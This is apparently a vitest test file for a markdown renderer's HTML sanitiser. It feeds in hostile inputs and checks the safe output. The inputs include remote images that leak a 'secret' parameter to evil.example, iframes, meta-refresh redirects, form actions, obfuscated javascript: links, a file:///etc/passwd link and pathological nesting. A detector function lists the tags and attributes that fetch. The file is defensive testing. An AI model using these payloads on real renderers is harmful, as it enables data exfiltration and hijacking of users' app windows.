// The attacks of docs/SECURITY.md ("What the window and the browser page
// load") on the markdown renderer: each hostile input, and exactly what it
// renders to. Nothing in the output may fetch when shown, cover the app,
// or navigate the window away from it.
import { describe, expect, it } from 'vitest';
import { markdownLimit, markdownLimits, renderMarkdown, safeLink } from './markdown';

const link = (href: string, text: string, title = href) =>
  `<a href="${href}" target="_blank" rel="noopener noreferrer" title="${title}">${text}</a>`;

/** Every way an element of html could make a request or leave the app when shown. */
function fetchesOrEscapes(html: string): string[] {
  const div = document.createElement('div');
  div.innerHTML = html;
  const out: string[] = [];
  for (const el of div.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['video', 'audio', 'picture', 'source', 'track', 'iframe', 'object', 'embed', 'map', 'area', 'dialog', 'form', 'style', 'link', 'meta', 'base', 'svg', 'input', 'button'].includes(tag)) {
      out.push(`<${tag}>`);
    }
    for (const a of el.attributes) {
      if (['srcset', 'poster', 'background', 'ping', 'style', 'id', 'name', 'usemap', 'action', 'formaction', 'data', 'popover'].includes(a.name) || a.name.startsWith('on')) {
        out.push(`${tag}[${a.name}]`);
      }
    }
    const src = el.getAttribute('src');
    if (src !== null && !(tag === 'img' && src.startsWith('data:image/'))) out.push(`${tag}[src=${src}]`);
    const href = el.getAttribute('href');
    if (href !== null && (tag !== 'a' || !/^(https?|mailto):/i.test(href) || el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')) {
      out.push(`${tag}[href=${href}]`);
    }
    for (const c of el.classList) if (!/^(hljs|language-|[a-z]+_+$)/.test(c)) out.push(`${tag}.${c}`);
  }
  return out;
}

describe('the sanitiser', () => {
  const cases: { name: string; src: string; want: string }[] = [
    {
      name: 'a remote markdown image becomes a link the user clicks',
      src: '![x](https://evil.example/p.png?d=secret)',
      want: `<p>${link('https://evil.example/p.png?d=secret', 'Image: x')}</p>\n`,
    },
    {
      name: 'a remote <img> becomes a link',
      src: '<img src="https://evil.example/a.png" alt="cat">',
      want: link('https://evil.example/a.png', 'Image: cat'),
    },
    {
      name: 'a relative image (the app\'s own origin) becomes its alt text',
      src: '<img src="/v1/threads" alt="self">',
      want: '[Image: self]',
    },
    {
      name: 'a data: image stays',
      src: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
      want: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    },
    {
      name: 'srcset goes',
      src: '<img srcset="https://evil.example/1x.png 1x" src="data:image/gif;base64,R0lGOD=">',
      want: '<img src="data:image/gif;base64,R0lGOD=">',
    },
    {
      name: '<picture> and <source> go',
      src: '<picture><source srcset="https://evil.example/s.png"><img src="data:image/gif;base64,R0=" alt="p"></picture>',
      want: '<p><img src="data:image/gif;base64,R0=" alt="p"></p>\n',
    },
    {
      name: '<video autoplay poster> goes',
      src: '<video autoplay src="https://evil.example/v.mp4" poster="https://evil.example/p.png">v</video>',
      want: '<p></p>\n',
    },
    { name: '<audio> goes', src: '<audio autoplay src="https://evil.example/a.mp3"></audio>', want: '<p></p>\n' },
    {
      name: 'background goes',
      src: '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">x</td></tr></table>',
      want: '<table><tbody><tr><td>x</td></tr></tbody></table>',
    },
    { name: "the app's classes and ids go (.backdrop covers the window)", src: '<div class="backdrop" id="app">cover</div>', want: '<div>cover</div>' },
    {
      name: '<map> and <area href> go',
      src: '<map name="m"><area href="https://evil.example/" shape="default"></map><img usemap="#m" src="data:image/gif;base64,R0=">',
      want: '<p><img src="data:image/gif;base64,R0="></p>\n',
    },
    { name: '<dialog> goes, its text stays', src: '<dialog open>modal</dialog>', want: 'modal' },
    { name: '<form> and <button> go', src: '<form action="https://evil.example/"><button>go</button></form>', want: 'go' },
    {
      name: '<iframe>, <object>, <embed> go',
      src: '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
      want: '',
    },
    { name: '<style> goes', src: '<style>body{display:none}</style>text', want: 'text' },
    {
      name: '<base>, <link>, <meta refresh> go',
      src: '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
      want: '',
    },
    { name: 'svg goes', src: '<svg><image href="https://evil.example/s.png"/></svg>', want: '<p></p>\n' },
    { name: 'popover, style and id go', src: '<span popover id="x" style="position:fixed;inset:0">p</span>', want: '<p><span>p</span></p>\n' },
    {
      name: 'a link always opens in a new browsing context, without ping',
      src: '<a href="https://ok.example/" target="_self" ping="https://evil.example/ping">ok</a>',
      want: '<p><a href="https://ok.example/" target="_blank" rel="noopener noreferrer">ok</a></p>\n',
    },
    {
      name: 'relative, protocol-relative and javascript: links lose their href',
      src: '<a href="/relative">rel</a> <a href="//evil.example/x">proto-rel</a> <a href="javascript:alert(1)">js</a> <a href=" JaVaScRiPt:alert(1)">js2</a> [md](javascript:alert(1))',
      want: '<p><a>rel</a> <a>proto-rel</a> <a>js</a> <a>js2</a> <a>md</a></p>\n',
    },
    {
      name: 'mailto stays a link',
      src: '<a href="mailto:a@b.example">mail</a>',
      want: '<p><a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer">mail</a></p>\n',
    },
    {
      name: "the highlighter's classes stay",
      src: '```go\nfunc f() {}\n```\n\n```js\nclass A {}\n```',
      want:
        '<pre><code class="hljs language-go"><span class="hljs-function"><span class="hljs-keyword">func</span> <span class="hljs-title">f</span><span class="hljs-params">()</span></span> {}\n</code></pre>\n' +
        '<pre><code class="hljs language-js"><span class="hljs-keyword">class</span> <span class="hljs-title class_">A</span> {}\n</code></pre>\n',
    },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const html = renderMarkdown(c.src);
      expect(html).toBe(c.want);
      expect(fetchesOrEscapes(html)).toEqual([]);
    });
  }

  it('finds what it looks for (the checker is not blind)', () => {
    expect(fetchesOrEscapes('<img src="https://e.x/a.png"><div class="backdrop"></div><area href="https://e.x">')).toEqual([
      'img[src=https://e.x/a.png]',
      'div.backdrop',
      '<area>',
      'area[href=https://e.x]',
    ]);
  });

  it('takes only absolute http(s) and mailto links', () => {
    expect(safeLink(' https://a.example/x ')).toBe('https://a.example/x');
    expect(safeLink('mailto:a@b.example')).toBe('mailto:a@b.example');
    for (const bad of ['/x', '#top', '//e.x/', 'javascript:alert(1)', 'java\tscript:alert(1)', 'data:text/html,x', 'wails://wails/', 'file:///etc/passwd']) {
      expect(safeLink(bad), bad).toBeUndefined();
    }
  });
});

describe('markdownLimit', () => {
  it('passes ordinary markdown, long code included', () => {
    const code = '```go\n' + 'x := 1 // *a_b*\n'.repeat(10_000) + '```\n';
    expect(code.length).toBeGreaterThan(markdownLimits.prose);
    for (const ok of ['# Title\n\n- a\n  - b\n    - c\n\n> quote\n> > nested', code, '*a* _b_ ~~c~~ '.repeat(50), '        indented code '.repeat(10)]) {
      expect(markdownLimit(ok), ok.slice(0, 40)).toBe('');
    }
  });

  it('refuses what marked cannot parse in time or at all', () => {
    expect(markdownLimit('*a'.repeat(100_000))).toBe('more than 32 KB of text outside code');
    expect(markdownLimit('_a'.repeat(1001))).toBe('more than 1000 emphasis marks');
    expect(markdownLimit('>'.repeat(2048) + ' x')).toBe('nested deeper than 16 levels');
    expect(markdownLimit('- '.repeat(40) + 'x')).toBe('nested deeper than 16 levels');
    expect(markdownLimit(Array.from({ length: 40 }, (_, i) => ' '.repeat(2 * i) + '- a').join('\n'))).toBe('nested deeper than 16 levels');
    expect(markdownLimit('x'.repeat(300 * 1024))).toBe('longer than 256 KB');
  });

  it('keeps every block within the bounds fast', () => {
    // Just inside each bound, the worst shapes found: each renders in well under a second.
    const worst = ['_a'.repeat(499), '**a'.repeat(333), '>'.repeat(16) + ' x', ('[a'.repeat(1000) + '\n').repeat(16)];
    for (const w of worst) {
      expect(markdownLimit(w), w.slice(0, 20)).toBe('');
      const t = performance.now();
      renderMarkdown(w);
      expect(performance.now() - t, w.slice(0, 20)).toBeLessThan(1000);
    }
  });
});
